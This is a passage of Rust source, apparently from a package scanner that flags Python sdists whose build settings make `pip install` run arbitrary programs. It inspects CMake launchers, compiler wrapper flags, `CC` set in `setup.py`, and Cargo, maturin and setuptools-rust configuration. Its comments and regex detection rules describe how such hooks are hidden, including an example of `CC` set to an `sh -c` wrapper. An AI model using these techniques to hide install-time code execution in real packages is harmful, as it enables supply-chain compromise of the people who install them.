                "the compiler's `-wrapper {}` runs each program the compiler starts (cc1, as, ld) through that command",
                shown_argument(data, name.end())
            )),
            b"-specs" | b"--specs" => out.runs.push(format!(
                "the compiler's `-specs={text}` reads a spec file, whose rules can make it run any program"
            )),
            b"-B" => {
                let prefix = text.trim_end_matches('/');
                let candidates = GCC_PROGRAMS
                    .iter()
                    .flat_map(|p| [(false, format!("{prefix}/{p}")), (false, format!("{text}{p}"))]);
                out.files
                    .push((resolve_each(path, candidates), format!("-B{text}"), false));
            }
            _ => out.includes.extend(include_name(value)),
        }
    }
    // `@FILE`, after a quote, `=`, `,` or `(`, or after a word and blanks:
    // not a make recipe's leading `@` (`\t@echo`), which only silences it.
    let at = AT.get_or_init(|| {
        Regex::new(r#"(?:["'=,(]|[^\s][ \t]+)@([\w./-]+)"#)
            .expect("the options file pattern compiles")
    });
    for c in at.captures_iter(data) {
        if let Some(file) = c
            .get(1)
            .and_then(|m| std::str::from_utf8(m.as_bytes()).ok())
        {
            let candidates = resolve_each(path, [(false, file.to_string())]);
            out.files.push((candidates, format!("@{file}"), true));
        }
    }
}

/// What a CMake compiler or linker launcher set in `data` makes the
/// build run before each compile or link: `CMAKE_<LANG>_COMPILER_LAUNCHER`
/// and `CMAKE_<LANG>_LINKER_LAUNCHER` (and the targets' `<LANG>_…`
/// properties), `RULE_LAUNCH_COMPILE`, `RULE_LAUNCH_LINK` and
/// `RULE_LAUNCH_CUSTOM`, given by CMake's `set(…)` or a property, by
/// `-DNAME=…` (scikit-build-core's `cmake.args`), by `NAME = "…"`
/// (its `cmake.define`) or by `"NAME": "…"` (a preset's
/// `cacheVariables`). scikit-build-core 1.1 packages whose
/// `cmake.define` or `cmake.args` gave `sh;-c;…` as the C compiler
/// launcher ran the command at `pip install`, and the shipped gate
/// allowed both (session 49). A compiler cache (`ccache`, `sccache`,
/// `buildcache`, `distcc`, `icecc`) is a launcher of the user's own
/// machine and does not count; a value CMake computes (`${CCACHE}`) does,
/// as no reader knows it. No real sdist of 403 sets a launcher.
fn compiler_launchers(data: &[u8]) -> Vec<String> {
    static RE: OnceLock<Regex> = OnceLock::new();
    let re = RE.get_or_init(|| {
        Regex::new(
            r#"(?i)(\bset\s*\(\s*|\bPROPERT(?:Y|IES)\s[^)]*?)?((?:CMAKE_)?[A-Z]+_(?:COMPILER|LINKER)_LAUNCHER|RULE_LAUNCH_(?:COMPILE|LINK|CUSTOM))\b(?::[A-Z]+)?["']?(\s*[=:]\s*|\s+)["']?([^"'\s)\]]+)"#,
        )
        .expect("the compiler launcher pattern compiles")
    });
    let caches = [
        "ccache",
        "sccache",
        "buildcache",
        "distcc",
        "icecc",
        "icecream",
    ];
    let mut out = Vec::new();
    for (name, value) in cmake_assignments(re, data) {
        let program = value.split([';', ' ']).next().unwrap_or("");
        let program = program.rsplit('/').next().unwrap_or(program);
        if caches.contains(&program) {
            continue;
        }
        out.push(format!(
            "CMake's `{name}` runs `{}` before each compile or link it starts",
            value.chars().take(80).collect::<String>()
        ));
    }
    out
}

/// The (variable, value) pairs `re` finds assigned in `data`: its groups
/// are 1 `set(` (or a property's keyword), 2 the variable, 3 what
/// separates it from 4 the value. An assignment is CMake's `set(NAME …)`
/// or a property's `NAME …`, or `NAME=…`, `NAME = …`, `"NAME": …`; not
/// `if(NAME)` or a mention in prose.
fn cmake_assignments<'a>(
    re: &'a Regex,
    data: &'a [u8],
) -> impl Iterator<Item = (String, String)> + 'a {
    re.captures_iter(data).filter_map(|c| {
        let (name, sep, value) = (c.get(2)?, c.get(3)?, c.get(4)?);
        let set = c.get(1).is_some();
        let assigned = sep.as_bytes().iter().any(|b| matches!(b, b'=' | b':'));
        (set || assigned).then(|| {
            (
                String::from_utf8_lossy(name.as_bytes()).into_owned(),
                String::from_utf8_lossy(value.as_bytes()).into_owned(),
            )
        })
    })
}

/// What a `setup.py` or a Cargo build script makes the build run by
/// setting a compiler's environment variable (`os.environ["CC"] = …`,
/// `os.environ.setdefault("CXX", …)`, `os.putenv("LDSHARED", …)`, Rust's
/// `env::set_var("CC", …)`): setuptools runs `CC`, `CXX`, `LDSHARED` as
/// the compiler and linker, and the `cc` crate runs `CC`. A setuptools 65
/// package whose `setup.py` set `CC` to `sh -c '…; exec gcc "$@"' gcc`
/// ran the command at `pip install`; the rules alone allowed it (session
/// 49). A value that is a string naming a compiler, linker or compiler
/// cache (`gcc`, `clang-18`, `x86_64-linux-gnu-gcc`, `ccache gcc`) does
/// not count; any other value, one computed too, does. No `setup.py` of
/// the 403 real sdists outside a test tree sets one.
fn compiler_environment(data: &[u8]) -> Vec<String> {
    let mut out = environment_settings(data);
    if out.is_empty() {
        if let Some(text) = environ_aliases_named(data) {
            out = environment_settings(&text);
        }
    }
    out
}

/// `data` with each name bound to the process environment written as
/// `environ` where it is subscripted or called on (`env = os.environ`,
/// `from os import environ as E`, then `env["CC"] = …`, `E.update(…)`), or
/// `None` when no name is so bound.
fn environ_aliases_named(data: &[u8]) -> Option<Vec<u8>> {
    static ALIAS: OnceLock<Regex> = OnceLock::new();
    let alias = ALIAS.get_or_init(|| {
        Regex::new(
            r"(?m)^[ \t]*([A-Za-z_]\w*)\s*(?::[^=\n]*)?=\s*(?:[A-Za-z_]\w*\s*\.\s*)?environ[ \t]*(?:#[^\n]*)?$|\bimport\s+(?:[^\n]*,\s*)?environ\s+as\s+([A-Za-z_]\w*)",
        )
        .expect("the environment alias pattern compiles")
    });
    let mut names: Vec<&str> = alias
        .captures_iter(data)
        .filter_map(|c| c.get(1).or(c.get(2)))
        .filter_map(|m| std::str::from_utf8(m.as_bytes()).ok())
        .filter(|n| *n != "environ")
        .take(16)
        .collect();
    names.sort_unstable();
    names.dedup();
    if names.is_empty() {
        return None;
    }
    // Written out rather than as a pattern of the names: a name may be
    // as long as its line, past what a pattern may compile to, and a
    // pattern that failed to build would leave the aliases unread.
    let mut text = data.to_vec();
    for name in names {
        text = environ_for(&text, name.as_bytes());
    }
    Some(text)
}

/// `text` with `name` written as `environ` wherever it stands as a whole
/// name followed by `[`, `.` or `|` (past blanks).
fn environ_for(text: &[u8], name: &[u8]) -> Vec<u8> {
    let word = |b: u8| is_word_byte(b) || b >= 0x80;
    let mut out = Vec::with_capacity(text.len());
    let mut from = 0;
    for at in memchr::memmem::find_iter(text, name) {
        let end = at + name.len();
        let before = at.checked_sub(1).map(|i| text[i]);
        let after = text[end..].iter().find(|b| !b.is_ascii_whitespace());
        if at >= from && !before.is_some_and(word) && matches!(after, Some(b'[' | b'.' | b'|')) {
            out.extend_from_slice(&text[from..at]);
            out.extend_from_slice(b"environ");
            from = end;
        }
    }
    out.extend_from_slice(&text[from..]);
    out
}

/// The compiler environment set in `data` ([`compiler_environment`]).
fn environment_settings(data: &[u8]) -> Vec<String> {
    static RE: OnceLock<Regex> = OnceLock::new();
    static UPDATE: OnceLock<Regex> = OnceLock::new();
    let re = RE.get_or_init(|| {
        Regex::new(
            // A subscript, `setdefault`, `putenv`, `set_var`; and the
            // attribute a folded subscript reads as (`environ["C" "C"]`
            // folds to `environ.CC`).
            r#"(?:environ\s*\[\s*|environ\.(?:setdefault|__setitem__)\(\s*|putenv\(\s*|set_var\(\s*)["']([A-Za-z_]+)["']\s*(?:\]\s*=|,)\s*([^\n]{0,160})|\benviron\s*\.\s*([A-Za-z_]+)\s*=\s*([^=\n][^\n]{0,159})"#,
        )
        .expect("the compiler environment pattern compiles")
    });
    // `os.environ.update({"CC": …}, CXX=…)` and `os.environ |= {…}`.
    let update = UPDATE.get_or_init(|| {
        Regex::new(r"\benviron\s*(?:\.\s*update\s*\(|\|=\s*\{)")
            .expect("the environment update pattern compiles")
    });
    let mut out = Vec::new();
    for c in re.captures_iter(data) {
        let (Some(name), Some(value)) = (c.get(1).or(c.get(3)), c.get(2).or(c.get(4))) else {
            continue;
        };
        let value = String::from_utf8_lossy(value.as_bytes());
        // `environ["CC"] == …` compares.
        if value.starts_with('=') {
            continue;
        }
        let value = value.trim_end().trim_end_matches([')', ';']).trim_end();
        out.extend(compiler_variable(
            &String::from_utf8_lossy(name.as_bytes()),
            value,
        ));
    }
    for m in update.find_iter(data).take(64) {
        // `|= {` opens the dict itself; `update(` a call whose arguments
        // are dicts or keywords.
        let (start, pairs_only) = match m.as_bytes().ends_with(b"{") {
            true => (m.end() - 1, true),
            false => (m.end(), false),
        };
        let rest = &data[start..data.len().min(start + (64 << 10))];
        let inner = match pairs_only {
            // The dict, braces and all.
            true => &rest[..bracket_end(&rest[1..]).map_or(rest.len(), |e| e + 2)],
            false => &rest[..bracket_end(rest).unwrap_or(rest.len())],
        };
        for piece in top_level_pieces(inner) {
            let piece = piece.trim_ascii();
            // A dict's own braces (`update({…})`) hold its pairs.
            if let Some(dict) = piece.strip_prefix(b"{") {
                let dict = &dict[..bracket_end(dict).unwrap_or(dict.len())];
                for pair in top_level_pieces(dict) {
                    let Some(colon) = first_outside_strings(pair, b':') else {
                        continue;
                    };
                    let Some(name) = python_string(pair[..colon].trim_ascii()) else {
                        continue;
                    };
                    let value = String::from_utf8_lossy(pair[colon + 1..].trim_ascii());
                    out.extend(compiler_variable(&name, &value));
                }
                continue;
            }
            let mut words = piece.splitn(2, |&b| b == b'=');
            let (Some(name), Some(value)) = (words.next(), words.next()) else {
                continue;
            };
            let name = String::from_utf8_lossy(name.trim_ascii());
            if super::unread::is_identifier(&name) {
                out.extend(compiler_variable(
                    &name,
                    &String::from_utf8_lossy(value.trim_ascii()),
                ));
            }
        }
    }
    out
}

/// The hook a build's environment variable `name` set to `value` (the
/// code as written) makes, when `name` is one setuptools or the `cc`
/// crate runs as the compiler or linker and `value` is not a string
/// literal naming a tool ([`names_a_tool`]).
fn compiler_variable(name: &str, value: &str) -> Option<String> {
    let upper = name.to_ascii_uppercase();
    if !(names_a_program(&upper) || matches!(upper.as_str(), "LDSHARED" | "LDCXXSHARED")) {
        return None;
    }
    // A string literal: its words, past a compiler cache.
    let literal = value
        .strip_prefix(['"', '\''])
        .and_then(|v| v.strip_suffix(['"', '\'']))
        .filter(|v| !v.contains(['"', '\'']));
    (!literal.is_some_and(names_a_tool)).then(|| {
        format!(
            "the build's `{name}` is set to `{}`, which setuptools or the cc crate runs as the compiler or linker",
            value.chars().take(80).collect::<String>()
        )
    })
}

/// Whether `command` (words apart by spaces) names a compiler, linker,
/// archiver or compiler cache, with options: its first word one of them
/// (after a compiler cache, the one the cache runs), the rest options
/// (`gcc`, `clang-18 -m64`, `x86_64-linux-gnu-gcc`, `ccache g++`,
/// `/usr/bin/cc`), none of which makes the tool run another program
/// (`-B`, `-wrapper`, `-specs`, `-fplugin`, `-fuse-ld`, `--ld-path`,
/// nvcc's `-ccbin`, options handed on with `-Wl,`, `-Xlinker` and kin,
/// an `@FILE` of options). A system path counts by its name; a relative
/// one (`tests/bin/cc`) may be a shipped file, and does not. A build tool
/// (`make`) is no compiler: as `CC` it would run the package's
/// `Makefile`.
fn names_a_tool(command: &str) -> bool {
    static TOOL: OnceLock<regex::Regex> = OnceLock::new();
    let tool = TOOL.get_or_init(|| {
        regex::Regex::new(
            r"^(?:[\w.]+-)*(?:gcc|g\+\+|cc|c\+\+|clang|clang\+\+|clang-cl|icc|icpc|icx|icpx|cl|ld|ld\.lld|ld\.gold|lld|lld-link|link|ar|ranlib|gfortran|flang|flang-new|ifort|ifx|nvcc|nasm|yasm|as|ml64|ccache|sccache|distcc)(?:-[\d.]+)?(?:\.exe)?$",
        )
        .expect("the compiler name pattern compiles")
    });
    let base = |w: &str| match w.contains('/') && !w.starts_with('/') {
        true => String::new(),
        false => w.rsplit('/').next().unwrap_or(w).to_string(),
    };
    let mut words = command.split_whitespace().peekable();
    let Some(first) = words.next().map(base) else {
        return false;
    };
    if !tool.is_match(&first) {
        return false;
    }
    if matches!(first.as_str(), "ccache" | "sccache" | "distcc") {
        if let Some(w) = words.next_if(|w| !w.starts_with('-')) {
            if !tool.is_match(&base(w)) {
                return false;
            }
        }
    }
    let runs = [
        "-B",
        "-wrapper",
        "-specs",
        "--specs",
        "-fplugin",
        "-fuse-ld",
        "--ld-path",
        "-ccbin",
        "--compiler-bindir",
        "-Wl,",
        "-Wa,",
        "-Wp,",
        "-Xlinker",
        "-Xassembler",
        "-Xpreprocessor",
        "-Xcompiler",
        "-Xclang",
    ];
    words.all(|w| w.starts_with('-') && !runs.iter().any(|r| w.starts_with(r)))
}

/// What CMake runs as a compiler, linker, archiver or build tool, where
/// `data` (a CMake script, a `pyproject.toml`'s `cmake.define` or
/// `cmake.args`, a preset's `cacheVariables`) assigns it:
/// `CMAKE_<LANG>_COMPILER` (C, CXX, CUDA, ASM_NASM, the CUDA host
/// compiler, …) and its `_AR` and `_RANLIB`, `CMAKE_LINKER`, `CMAKE_AR`,
/// `CMAKE_RANLIB`, `CMAKE_MAKE_PROGRAM`. scikit-build-core 1.1 packages
/// whose `CMakeLists.txt` set the C compiler, or whose toolchain file
/// (`cmake.define`'s `CMAKE_TOOLCHAIN_FILE`) did, to a shipped script,
/// or set the linker to one that a link rule of theirs ran, ran the
/// script at `pip install` (session 50). A value naming a tool
/// ([`names_a_tool`]; a CMake list's `;` read as a space), the compiler
/// CMake already has (`${CMAKE_C_COMPILER}`) or one the user's
/// environment names (`$ENV{CC}`) does not count; any other, one CMake
/// computes (`${triple}-gcc`) too, does, as no reader knows it.
fn cmake_programs(data: &[u8]) -> Vec<String> {
    static RE: OnceLock<Regex> = OnceLock::new();
    static KNOWN: OnceLock<regex::Regex> = OnceLock::new();
    let re = RE.get_or_init(|| {
        Regex::new(
            r#"((?i:\bset)\s*\(\s*)?(CMAKE_(?:(?:[A-Z]+_)+COMPILER(?:_AR|_RANLIB)?|LINKER|AR|RANLIB|MAKE_PROGRAM))\b(?::[A-Za-z]+)?["']?(\s*[=:]\s*|\s+)["']?([^"'\s)\]]+)"#,
        )
        .expect("the CMake program pattern compiles")
    });
    let known = KNOWN.get_or_init(|| {
        regex::Regex::new(r"^(?:\$\{CMAKE_(?:[A-Z]+_)+COMPILER\}|\$ENV\{\w+\})$")
            .expect("the known program pattern compiles")
    });
    let mut out = Vec::new();
    for (name, value) in cmake_assignments(re, data) {
        let program = value.split(';').next().unwrap_or("");
        if known.is_match(program) || names_a_tool(&value.replace(';', " ")) {
            continue;
        }
        out.push(format!(
            "CMake's `{name}` is set to `{}`, which CMake runs as that program",
            value.chars().take(80).collect::<String>()
        ));
    }
    out
}

/// Whether `path` is a Cargo configuration file (`.cargo/config.toml`,
/// or `.cargo/config`, its older name), which Cargo reads from the folder
/// it runs in and every folder above: maturin and setuptools-rust run it
/// in the unpacked package.
fn is_cargo_config(path: &str) -> bool {
    let mut parts = path.rsplit('/');
    matches!(parts.next(), Some("config.toml" | "config")) && parts.next() == Some(".cargo")
}

/// The environment variables in a Cargo configuration's `[env]` that
/// name a program Cargo, rustc or a build script runs (the `cc` crate
/// runs `CC`, Cargo `RUSTC_WRAPPER`), optionally for one target
/// (`CC_x86_64_unknown_linux_gnu`, `TARGET_CC`) or named for one
/// (`CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_LINKER`).
fn names_a_program(key: &str) -> bool {
    let key = key.to_ascii_uppercase();
    let key = key
        .strip_prefix("TARGET_")
        .or_else(|| key.strip_prefix("HOST_"))
        .unwrap_or(&key);
    let programs = [
        "CC", "CXX", "AR", "LD", "RANLIB", "NM", "CPP", "RUSTC", "RUSTDOC",
    ];
    programs
        .iter()
        .any(|p| key == *p || key.strip_prefix(p).is_some_and(|r| r.starts_with('_')))
        || (key.starts_with("CARGO_")
            && (key.ends_with("_LINKER")
                || key.ends_with("_RUSTC_WRAPPER")
                || key.ends_with("_RUSTC")))
}

/// What a Cargo configuration file makes a build run
/// ([`compiler_flags`]): `build.rustc`, `build.rustc-wrapper` and
/// `build.rustc-workspace-wrapper`, which Cargo runs in place of rustc or
/// around each rustc it starts; a target's or the host's `linker`;
/// rustflags' `-C linker=…`, and the compiler flags their `-C
/// link-arg=…` give the linker driver ([`flags_in`]: `-wrapper`, `-B`,
/// …); `[env]` variables naming a program (`CC`, `RUSTC_WRAPPER`, …) or
/// compiler flags (`CFLAGS`, …, read as flags); and a `[source]`
/// replacement or `[patch]` from a git repository or another registry,
/// which the build fetches (`fetched`). A maturin 1.16 crate whose
/// `.cargo/config.toml` named `tests/bin/wrap` as `rustc-wrapper`, or
/// `tests/bin/cc` as the target's `linker`, ran the script at `pip
/// install`, and the shipped gate allowed both (session 49). Real
/// packages' configurations set macOS link arguments, `--cfg` flags,
/// `git-fetch-with-cli` and a vendored `directory` source, none of which
/// counts.
fn cargo_config(path: &str, data: &[u8], out: &mut CompilerFlags) {
    let Some(doc) = super::fetched::toml_table(data) else {
        return;
    };
    let string = |v: &toml::Value| v.as_str().map(str::to_string);
    let build = doc.get("build");
    for key in ["rustc", "rustc-wrapper", "rustc-workspace-wrapper"] {
        if let Some(v) = build.and_then(|b| b.get(key)).and_then(string) {
            out.runs.push(format!(
                "Cargo's `build.{key} = \"{v}\"` runs that program for each crate it compiles"
            ));
        }
    }
    // Rustflags anywhere they are read: `[build]`, `[host]` and each
    // `[target.…]` table; an array or a string of blank-separated flags.
    let mut tables: Vec<(String, &toml::Value)> = Vec::new();
    tables.extend(build.map(|b| ("build".to_string(), b)));
    tables.extend(doc.get("host").map(|h| ("host".to_string(), h)));
    if let Some(targets) = doc.get("target").and_then(toml::Value::as_table) {
        tables.extend(targets.iter().map(|(t, v)| (format!("target.{t}"), v)));
    }
    for (name, table) in tables {
        if let Some(v) = table.get("linker").and_then(string) {
            out.runs.push(format!(
                "Cargo's `{name}.linker = \"{v}\"` runs that program to link"
            ));
        }
        let flags: Vec<String> = match table.get("rustflags") {
            Some(toml::Value::String(s)) => s.split_whitespace().map(str::to_string).collect(),
            Some(toml::Value::Array(a)) => a.iter().filter_map(string).collect(),
            _ => Vec::new(),
        };
        let flags: Vec<&str> = flags.iter().map(String::as_str).collect();
        rustc_codegen(
            path,
            &format!("the rustflags of Cargo's `{name}`"),
            &flags,
            out,
        );
    }
    if let Some(env) = doc.get("env").and_then(toml::Value::as_table) {
        for (key, value) in env {
            let Some(v) = string(value).or_else(|| value.get("value").and_then(string)) else {
                continue;
            };
            if names_a_program(key) {
                out.runs.push(format!("Cargo's `[env]` sets `{key} = \"{v}\"` for rustc and build scripts, which run that program"));
            } else if key.to_ascii_uppercase().contains("FLAGS") {
                flags_in(path, format!(" {v}").as_bytes(), out);
            }
        }
    }
    // A source or a patch is read as a dependency's specification is
    // (`fetched::cargo_source`).
    let fetched = |kind: &str, name: &str, v: &toml::Value| {
        super::fetched::cargo_source(v)
            .map(|from| format!("Cargo's `[{kind}.{name}]` fetches crates from {from}"))
    };
    if let Some(sources) = doc.get("source").and_then(toml::Value::as_table) {
        out.fetched
            .extend(sources.iter().filter_map(|(n, v)| fetched("source", n, v)));
    }
    if let Some(patches) = doc.get("patch").and_then(toml::Value::as_table) {
        for (registry, crates) in patches {
            if let Some(crates) = crates.as_table() {
                out.fetched.extend(
                    crates
                        .iter()
                        .filter_map(|(n, v)| fetched(&format!("patch.{registry}"), n, v)),
                );
            }
        }
    }
}

/// What rustc's codegen options among `flags` (rustflags, maturin's
/// `rustc-args`; `given` says whose) make the build run, into `out`:
/// `-C linker=PROG` runs PROG to link, `-C linker-plugin-lto=PATH` has
/// the linker load PATH as its plugin, and `-C link-arg=…` (or
/// `link-args`) hands the linker driver flags ([`flags_in`]: `-wrapper`,
/// `-B`, …).
fn rustc_codegen(path: &str, given: &str, flags: &[&str], out: &mut CompilerFlags) {
    let mut link_args = Vec::new();
    let mut flags = flags.iter();
    while let Some(f) = flags.next() {
        let codegen = match f.strip_prefix("-C").or_else(|| f.strip_prefix("--codegen")) {
            Some("") => flags.next().copied(),
            Some(joined) => Some(joined.trim_start_matches('=')),
            None => None,
        };
        let Some(codegen) = codegen else { continue };
        if let Some(linker) = codegen.strip_prefix("linker=") {
            out.runs.push(format!(
                "{given} give rustc `-C linker={linker}`, which runs that program to link"
            ));
        } else if let Some(plugin) = codegen.strip_prefix("linker-plugin-lto=") {
            if !matches!(
                plugin,
                "" | "y" | "yes" | "on" | "true" | "n" | "no" | "off" | "false"
            ) {
                out.runs.push(format!("{given} give rustc `-C linker-plugin-lto={plugin}`, which has the linker load that file as its plugin"));
            }
        } else if let Some(arg) = codegen
            .strip_prefix("link-arg=")
            .or_else(|| codegen.strip_prefix("link-args="))
        {
            link_args.push(arg.to_string());
        }
    }
    flags_in(path, link_args.join(" ").as_bytes(), out);
}

/// What a root `pyproject.toml`'s `[tool.maturin]` (the text `data` of
/// the file at `path`) makes the build run, into `out`: each `config`
/// entry maturin hands Cargo as `--config`, read as a Cargo
/// configuration ([`cargo_config`]) when it is a `KEY=VALUE` snippet and
/// counted when it names a configuration file, which may set anything
/// (a shipped `docs/cargo.toml`); and the codegen options among
/// `rustc-args` ([`rustc_codegen`]). A maturin 1.16 package whose `config`
/// set `build.rustc-wrapper` or a target's `linker` to a shipped script,
/// or named a file that did, or whose `rustc-args` gave `-C
/// linker=tests/bin/cc`, ran the script at `pip install`, and the shipped
/// gate allowed all four (session 51).
fn maturin_settings(code: &Code, out: &mut CompilerFlags) {
    // No search for the word first: TOML spells a key with escapes too
    // (`[tool."matur\u0069n"]`), and `code` parses the manifest once.
    let path = code.path;
    let Some(doc) = super::fetched::root_pyproject(code) else {
        return;
    };
    let Some(maturin) = doc.get("tool").and_then(|t| t.get("maturin")) else {
        return;
    };
    let strings = |key: &str| -> Vec<String> {
        maturin
            .get(key)
            .and_then(toml::Value::as_array)
            .into_iter()
            .flatten()
            .filter_map(|v| v.as_str().map(str::to_string))
            .collect()
    };
    for entry in strings("config") {
        cargo_cli_config(path, "maturin's", &entry, out);
    }
    let args = strings("rustc-args");
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    rustc_codegen(path, "maturin's `rustc-args`", &args, out);
}

/// What one `--config` argument a build hands Cargo (`entry`; `whose`
/// says whose: "maturin's") makes it run, into `out`: a `KEY=VALUE`
/// snippet is read as a Cargo configuration ([`cargo_config`]); anything
/// else names a configuration file, which may set anything, and counts.
fn cargo_cli_config(path: &str, whose: &str, entry: &str, out: &mut CompilerFlags) {
    match toml::from_str::<toml::Table>(entry) {
        Ok(table) if !table.is_empty() => {
            let mut found = CompilerFlags::default();
            let text = toml::to_string(&table).unwrap_or_default();
            cargo_config(path, text.as_bytes(), &mut found);
            let shown = |what: String| format!("{whose} `--config {entry}`: {what}");
            out.runs.extend(found.runs.into_iter().map(shown));
            out.fetched.extend(found.fetched.into_iter().map(shown));
            out.files.extend(found.files);
        }
        _ => out.runs.push(format!(
            "{whose} `--config {entry}` gives Cargo that configuration file, which can make it run any program (`build.rustc-wrapper`, a `linker`)"
        )),
    }
}

/// What the arguments a build hands Cargo (`args`; `whose` says whose)
/// make it run, into `out`: each `--config` ([`cargo_cli_config`]).
fn cargo_cli_args(path: &str, whose: &str, args: &[&str], out: &mut CompilerFlags) {
    let mut args = args.iter();
    while let Some(a) = args.next() {
        let entry = match a.strip_prefix("--config") {
            Some("") => args.next().copied(),
            Some(joined) => joined.strip_prefix('='),
            None => None,
        };
        if let Some(entry) = entry {
            cargo_cli_config(path, whose, entry, out);
        }
    }
}

/// What the environment a build gives Cargo (`vars`: each name, and its
/// value when the text gives it as a literal; `whose` says whose) makes
/// it run, into `out`. Cargo, rustc and build scripts run programs named
/// by `CC`, `RUSTC_WRAPPER`, `CARGO_TARGET_…_LINKER` and their kin unless
/// the value names a tool ([`names_a_tool`]); rustflags' codegen options
/// ([`rustc_codegen`]) and compiler flags ([`flags_in`]) are read as
/// such; `PATH`, `HOME` (under which Cargo reads its configuration) and
/// `TMPDIR` count when an entry is not an absolute path. A variable known
/// to run nothing (`CARGO_PROFILE_…`, `CARGO_TERM_…`, `RUST_BACKTRACE`,
/// `MACOSX_DEPLOYMENT_TARGET`, …) does not count; any other does, as may
/// a name no reader knows (`CARGO_HOME`, `PYO3_PYTHON`).
fn cargo_environment(
    path: &str,
    whose: &str,
    vars: &[(String, Option<String>)],
    out: &mut CompilerFlags,
) {
    static QUIET: OnceLock<regex::Regex> = OnceLock::new();
    let quiet = QUIET.get_or_init(|| {
        regex::Regex::new(
            r"^(?:CARGO_PROFILE_\w+|CARGO_TERM_\w+|CARGO_NET_\w+|CARGO_INCREMENTAL|CARGO_BUILD_JOBS|RUST_BACKTRACE|RUST_LOG|RUST_MIN_STACK|MACOSX_DEPLOYMENT_TARGET|IPHONEOS_DEPLOYMENT_TARGET|SOURCE_DATE_EPOCH|LANG|LC_\w+|TERM|TZ|PYO3_USE_ABI3_FORWARD_COMPATIBILITY|PYO3_NO_PYTHON)$",
        )
        .expect("the quiet variable pattern compiles")
    });
    for (name, value) in vars {
        let upper = name.to_ascii_uppercase();
        if quiet.is_match(&upper) {
            continue;
        }
        let shown = match value {
            Some(v) => format!("{name}={}", v.chars().take(80).collect::<String>()),
            None => format!("{name} (computed)"),
        };
        let runs = match (upper.as_str(), value) {
            ("PATH" | "HOME" | "TMPDIR", Some(v)) => v
                .split([':', ';'])
                .any(|e| !(e.starts_with('/') || e.get(1..2) == Some(":"))),
            (_, Some(v)) if upper.ends_with("RUSTFLAGS") => {
                let flags: Vec<&str> = v
                    .split(|c: char| c.is_whitespace() || c == '\x1f')
                    .collect();
                rustc_codegen(path, &format!("{whose} `{name}`"), &flags, out);
                false
            }
            (_, Some(v)) if upper.contains("FLAGS") => {
                flags_in(path, format!(" {v}").as_bytes(), out);
                false
            }
            (_, Some(v)) if names_a_program(&upper) || upper.starts_with("LD") => !names_a_tool(v),
            _ => true,
        };
        if runs {
            out.runs.push(format!(
                "{whose} environment for Cargo sets `{shown}`, which can name a program it runs or where it reads its configuration"
            ));
        }
    }
}

/// What setuptools-rust's extensions and binaries make the build run,
/// into `out`: from a root `pyproject.toml`'s `[tool.setuptools-rust]`
/// (`ext-modules`, `bins`), or from `RustExtension(…)`, `RustBin(…)` and
/// `RustExec(…)` in a `setup.py`: `args` and `cargo-manifest-args` (handed
/// to Cargo, [`cargo_cli_args`]), `rustc-flags` (handed to rustc,
/// [`rustc_codegen`]) and `env` (Cargo's whole environment,
/// [`cargo_environment`]). In a `setup.py` a value that is not a list of
/// string literals (or, for `env`, a dict of them) is computed when the
/// build runs and counts. setuptools-rust 1.13 packages whose `args` or
/// `cargo-manifest-args` gave `--config` a rustc wrapper or a
/// configuration file naming one, whose `rustc-flags` (in either file)
/// gave `-C linker=tests/bin/cc`, or whose `env` (in either file) set
/// `RUSTC_WRAPPER` ran the shipped script at `pip install`; the shipped
/// gate allowed all six (session 51).
fn setuptools_rust_settings(code: &Code, lower: &str, out: &mut CompilerFlags) {
    let (path, data) = (code.path, code.data);
    if lower == "pyproject.toml" {
        let Some(doc) = super::fetched::root_pyproject(code) else {
            return;
        };
        let Some(table) = doc.get("tool").and_then(|t| t.get("setuptools-rust")) else {
            return;
        };
        let whose = "setuptools-rust's";
        let entries = ["ext-modules", "bins"]
            .into_iter()
            .filter_map(|k| table.get(k)?.as_array())
            .flatten();
        for entry in entries {
            let strings = |key: &str| -> Vec<&str> {
                entry
                    .get(key)
                    .and_then(toml::Value::as_array)
                    .into_iter()
                    .flatten()
                    .filter_map(toml::Value::as_str)
                    .collect()
            };
            let mut cargo = strings("args");
            cargo.extend(strings("cargo-manifest-args"));
            cargo_cli_args(path, whose, &cargo, out);
            rustc_codegen(
                path,
                "setuptools-rust's `rustc-flags`",
                &strings("rustc-flags"),
                out,
            );
            if let Some(env) = entry.get("env").and_then(toml::Value::as_table) {
                let vars: Vec<(String, Option<String>)> = env
                    .iter()
                    .map(|(k, v)| (k.clone(), v.as_str().map(str::to_string)))
                    .collect();
                cargo_environment(path, whose, &vars, out);
            }
        }
        return;
    }
    static CALL: OnceLock<Regex> = OnceLock::new();
    static KEYWORD: OnceLock<Regex> = OnceLock::new();
    let call = CALL.get_or_init(|| {
        Regex::new(r"\bRust(?:Extension|Bin|Exec)\s*\(")
            .expect("the Rust extension pattern compiles")
    });
    let keyword = KEYWORD.get_or_init(|| {
        Regex::new(r"\b(rustc_flags|cargo_manifest_args|args|env)\s*=[^=]")
            .expect("the Rust extension keyword pattern compiles")
    });
    let whose = "setuptools-rust's";
    for m in call.find_iter(data).take(64) {
        let rest = &data[m.end()..data.len().min(m.end() + (64 << 10))];
        let args = &rest[..bracket_end(rest).unwrap_or(rest.len())];
        for c in keyword.captures_iter(args) {
            let (Some(name), Some(all)) = (c.get(1), c.get(0)) else {
                continue;
            };
            let value = args[all.end() - 1..].trim_ascii_start();
            let name = std::str::from_utf8(name.as_bytes()).unwrap_or("");
            if name == "env" {
                match python_dict(value) {
                    Some(vars) => cargo_environment(path, whose, &vars, out),
                    None => out.runs.push(format!(
                        "{whose} `env` for Cargo is computed when the build runs, and can name a program it runs"
                    )),
                }
                continue;
            }
            let Some(list) = python_strings(value) else {
                out.runs.push(format!(
                    "{whose} `{name}` is computed when the build runs, and can make Cargo or rustc run any program"
                ));
                continue;
            };
            let list: Vec<&str> = list.iter().map(String::as_str).collect();
            match name {
                "rustc_flags" => rustc_codegen(path, "setuptools-rust's `rustc_flags`", &list, out),
                _ => cargo_cli_args(path, whose, &list, out),
            }
        }
    }
}

/// Where the bracket `rest` is inside of closes (the index of the first
/// `)`, `]` or `}` outside the brackets and string literals opened in
/// `rest`), within `rest`; `None` when it does not. Unlike
/// [`end_outside`], it reads Python: past `#` comments (whose `)` or `'`
/// would end the call early, or open a string), a string ends at its
/// line's end, and the whole of `rest` is read (a setup call's keywords
/// can lie kilobytes past its `(`; callers cap `rest`).
fn bracket_end(rest: &[u8]) -> Option<usize> {
    let mut depth = 0usize;
